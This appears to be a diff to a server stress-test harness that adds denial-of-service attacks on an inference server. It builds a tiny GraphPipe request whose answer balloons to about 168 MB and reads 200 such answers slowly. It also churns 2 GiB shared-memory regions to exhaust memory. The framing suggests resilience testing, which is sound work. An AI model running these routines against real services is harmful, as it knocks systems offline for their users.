@@ -2,6 +2,8 @@
 
 import concurrent.futures
 import json
+import os
+import struct
 import time
 
 from peer import (CANCEL, GRPC, GZIP, H2, INITIAL_WINDOW_SIZE, JSON, Raw, ask, binary_infer, data, drip, flat_bits, grpc_message, packed, post, rst,
@@ -173,3 +175,51 @@ def generate_details(target):
     peers = [Raw(target, receive_buffer=4096, wait=5).send(request) for _ in range(target.size(200, 40))]
     left = drip(target, peers, 500)
     return f'{len(left)} of {len(peers)} still open'
+
+
+def empty_strings(tensors, strings):
+    """An InferRequest (proto/graphpipe.fbs) of many references to one tensor of many references to one empty string."""
+    tables = struct.pack('<4H', 8, 12, 4, 8), struct.pack('<6H', 10, 8, 0, 0, 4, 0), struct.pack('<6H', 12, 16, 12, 4, 0, 8)
+    request = 4 + sum(map(len, tables))
+    infer = request + 12
+    tensor = infer + 8 + 4 + 4 * tensors
+    shape = tensor + 16 + (tensor + 20) % 8  # its numbers lie at a multiple of 8
+    text = shape + 12 + 4 + 4 * strings
+    out = struct.pack('<I', request) + b''.join(tables)
+    out += struct.pack('<iB3xI', request - 4, 1, infer - request - 8) + struct.pack('<iI', infer - 12, 4)
+    out += struct.pack('<I', tensors) + b''.join(struct.pack('<I', tensor - (infer + 12 + 4 * i)) for i in range(tensors))
+    out += struct.pack('<iIIB3x', tensor - 24, shape - tensor - 4, shape + 12 - tensor - 8, 12) + bytes(shape - tensor - 16)
+    out += struct.pack('<Iq', 1, strings) + struct.pack('<I', strings)
+    out += b''.join(struct.pack('<I', text - (shape + 16 + 4 * i)) for i in range(strings))
+    return out + struct.pack('<II', 0, 0)
+
+
+@attack(seconds=30, quick=9, quick_env=SMALL)
+def graphpipe_strings(target):
+    """200 GraphPipe requests of 280 KB whose answers, 168 MB of empty strings each, are read at 1.5 KB/s."""
+    request = post('/graphpipe/identity', empty_strings(200, 70000), ('content-type', 'application/octet-stream'))
+    peers = [Raw(target, receive_buffer=4096, wait=10).send(request) for _ in range(target.size(200, 40))]
+    left = drip(target, peers, 1500)
+    return f'{len(peers)} requests of {len(request) >> 10} KiB; {len(left)} still open'
+
+
+@attack(seconds=20, quick=6)
+def shared_memory_let_go(target):
+    """Regions of 2 GiB of shared memory that infers have touched, unregistered when their objects are unlinked."""
+    half, rounds = target.size(1024, 384) * MIB, 0
+    name = f'weir-attack-{target.pid}'
+    place = {'shared_memory_region': 'r', 'shared_memory_byte_size': half}
+    tensor = {'name': 'x', 'datatype': 'FP32', 'shape': [half // 4], 'parameters': place}
+    infer = json.dumps({'inputs': [tensor], 'outputs': [{'name': 'x', 'parameters': place | {'shared_memory_offset': half}}]})
+    region = json.dumps({'key': '/' + name, 'offset': 0, 'byte_size': 2 * half})
+    while not target.over():
+        with open('/dev/shm/' + name, 'wb') as memory:
+            memory.truncate(2 * half)
+        said = [ask(target, post('/v2/systemsharedmemory/region/r/register', region.encode(), JSON)), ask(target, post(INFER, infer.encode(), JSON))]
+        os.unlink('/dev/shm/' + name)
+        said.append(ask(target, post('/v2/systemsharedmemory/region/r/unregister', b'', JSON)))
+        if any(status != 200 for status, _ in said):
+            target.broke(f'round {rounds}: {[status for status, _ in said]}')
+            break
+        rounds += 1
+    return f'{rounds} regions'
